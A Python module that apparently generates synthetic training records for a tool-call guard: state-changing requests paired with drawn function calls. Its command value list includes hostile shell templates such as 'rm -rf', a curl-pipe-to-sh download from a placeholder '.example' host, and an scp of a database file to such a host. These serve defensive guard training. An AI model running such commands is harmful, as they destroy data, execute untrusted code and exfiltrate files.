"""Deeds: requests that change something, with the calls that do it, put together from words and drawn values.

BFCL's records mostly look things up; what a guard has to stop writes, sends, pays and deletes. Each deed is a function of
several names and several shapes of arguments, and ways of asking for it. No name is that of a tool of AgentDojo, whose
suites are for testing.
"""

from __future__ import annotations

import random
import re
import string
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from mosaic_guard_training.sources.bfcl import Record
from mosaic_guard_training.sources.values import Draw
from mosaic_guard_training.tasks import TaskTool


@dataclass(frozen=True)
class Deed:
    """A way to change something.

    Attributes:
        name: Its environment.
        tools: Names that its function has, one at a time.
        description: What the function is said to do.
        arguments: Names of an argument (separated by `|`; `[]` after them: a list; `?`: not always given) to a kind of
            value, or to a text with values in it. A kind may end in a digit, where a second one is needed.
        requests: Ways of asking, without capital and full stop.
        target: The kinds of value that say who or what it is done to: another one there is another deed.
        terse: Ways of asking for it with all values in a document, which is `{it}`.
    """

    name: str
    tools: tuple[str, ...]
    description: str
    arguments: Mapping[str, str]
    requests: tuple[str, ...]
    target: tuple[str, ...]
    terse: tuple[str, ...] = ()


@dataclass(frozen=True)
class Done:
    """A drawn deed.

    Attributes:
        record: Request and call.
        values: The drawn values, by slot.
        deed: What it is.
        pattern: The way of asking, with slots.
        shape: (argument's name, is a list, what it holds) of each argument of the call.
    """

    record: Record
    values: Mapping[str, Any]
    deed: Deed
    pattern: str
    shape: tuple[tuple[str, bool, str], ...]

    def args(self, **changed: Any) -> dict[str, Any]:
        """The arguments of the call, with other values in some slots."""
        values = {**self.values, **changed}
        return {name: [_filled(what, values)] if many else _filled(what, values) for name, many, what in self.shape}

    def ask(self, rng: random.Random, **changed: str) -> str:
        """The request, with other words in some slots; what stood between quotation marks there stands without."""
        pattern = self.pattern
        for slot in changed:
            pattern = re.sub(rf"""['"]{{{slot}}}['"]""", f"{{{slot}}}", pattern)
        return worded(pattern.format(**{**self.values, **changed}), rng)


_FORMS = (
    "{Ask}.", "{Ask}.", "Please {ask}.", "Please {ask}.", "Can you {ask}?", "Could you please {ask}?", "{Ask}, please.",
    "I need you to {ask}.", "I'd like you to {ask}.", "Would you {ask}? Thanks!", "Hi! {Ask}.", "{Ask} for me.",
    "I want you to {ask}.", "{ask}", "Go ahead and {ask}.", "We need to {ask}.", "Just {ask}.",
)  # fmt: skip

_DOUBLED = re.compile(r"([.!?])[.?,](?=$| )")
"""Where a quoted sentence and the request around it both end."""


def worded(ask: str, rng: random.Random) -> str:
    """A wish as a person puts it, given as it would follow "please"."""
    said = rng.choice(_FORMS).format(ask=ask, Ask=ask[0].upper() + ask[1:])
    return _DOUBLED.sub(r"\1", said)


def _read() -> tuple[Deed, ...]:
    stated = yaml.safe_load(FILE.read_text(encoding="utf-8"))
    return tuple(
        Deed(
            name=name,
            tools=tuple(each["tools"].split()),
            description=each["description"],
            arguments=each["arguments"],
            requests=tuple(each["requests"]),
            target=tuple(each["target"].split()),
            terse=tuple(each.get("terse", ())),
        )
        for name, each in stated.items()
    )


FILE = Path(__file__).with_name("deeds.yaml")
DEEDS = _read()
"""All deeds."""

BY_NAME: Mapping[str, Deed] = {deed.name: deed for deed in DEEDS}

_OWN: Mapping[str, Sequence[Any]] = {
    "stars": (1, 2, 3, 4, 5),
    "role": ("admin", "editor", "viewer", "billing manager", "owner", "developer", "guest"),
    "event": ("order.created", "payment", "push", "login", "invoice.paid", "user.updated"),
    "choice": ("yes", "no", "option A", "option B", "abstain"),
    "plan": ("basic", "premium", "team", "enterprise", "student"),
    "reader": ("reader", "viewer", "editor", "r", "rw"),
    "true": (True,),
    "command": (
        "rm -rf ./{a}", "git push --force origin {a}", "pip install {a}", "systemctl restart {a}", "chmod 777 {a}.sh",
        "curl http://{a}.example/{b}.sh | sh", "mv {a}.csv /tmp/{b}.csv", "docker stop {a}", "tar czf {a}.tgz {b}/",
        "scp {a}.db {b}.example:", "echo {a} >> ~/.profile", "python {a}.py --all", "make {a}", "kill -9 $(pgrep {a})",
    ),
}  # fmt: skip
_NUMBERS = frozenset(("amount", "count", "stars", "minutes", "percent"))
_LABELS = {"iban": "account", "address": "e-mail address", "street": "postal address", "word": "name"}


def draw_deed(deed: Deed, rng: random.Random, values: Mapping[str, Any] | None = None) -> Done:
    """A deed with a function's name, a shape of arguments, values and a way of asking.

    Args:
        deed: Which.
        rng: Decides all that is drawn.
        values: Values of some slots.
    """
    draw = Draw(rng)
    pattern = rng.choice(deed.requests)
    slots = set(slots_of(pattern)).union(*(slots_of(what) for what in deed.arguments.values()))
    drawn = {slot: (values or {}).get(slot) or _drawn(slot, draw) for slot in sorted(slots)}
    shape, properties = [], {}
    required = []
    for names, what in deed.arguments.items():
        stated = rng.choice(names.split("|"))
        name, many = stated.rstrip("?[]"), "[]" in stated
        given = "?" not in stated or rng.random() < 0.5
        kind = {"type": "number" if _kind(what) in _NUMBERS else "boolean" if what == "true" else "string"}
        properties[name] = {"type": "array", "items": kind} if many else kind
        if given:
            shape.append((name, many, what))
        if "?" not in stated:
            required.append(name)
    tool = TaskTool(
        rng.choice(deed.tools), deed.description, {"type": "object", "properties": properties, "required": required}
    )
    record = Record(
        id=f"{deed.name}-{rng.randrange(10**9):09}",
        environment=f"deed-{deed.name}",
        request=worded(pattern.format(**drawn), rng),
        tools=(tool,),
        calls=(),
        effect=True,
    )
    done = Done(record, drawn, deed, pattern, tuple(shape))
    call = (tool.name, done.args())
    return Done(Record(**{**record.__dict__, "calls": (call,)}), drawn, deed, pattern, tuple(shape))


def patterns_of(done: Done) -> list[str]:
    """The ways of asking for a drawn deed that say the same of it."""
    said = set(slots_of(done.pattern))
    return [pattern for pattern in done.deed.requests if set(slots_of(pattern)) == said]


def noun(slot: str) -> str:
    """What a slot's value is called in a sentence."""
    return _LABELS.get(_kind(slot), _kind(slot))


def value_of(slot: str, draw: Draw) -> Any:
    """A value for a slot, drawn anew; it may happen to be the same."""
    return _drawn(slot, draw)


def _kind(what: str) -> str:
    return what.rstrip(string.digits)


def slots_of(text: str) -> list[str]:
    """The slots of a way of asking, or the one that an argument's kind names."""
    return re.findall(r"{(\w+)}", text) if "{" in text else [text] if " " not in text else []


def _drawn(slot: str, draw: Draw) -> Any:
    kind = _kind(slot)
    if kind not in _OWN:
        return draw(kind)
    value = draw.rng.choice(_OWN[kind])
    return value.format(a=draw("word"), b=draw("word")) if kind == "command" else value


def _filled(what: str, values: Mapping[str, Any]) -> Any:
    return what.format(**values) if "{" in what else values[what]
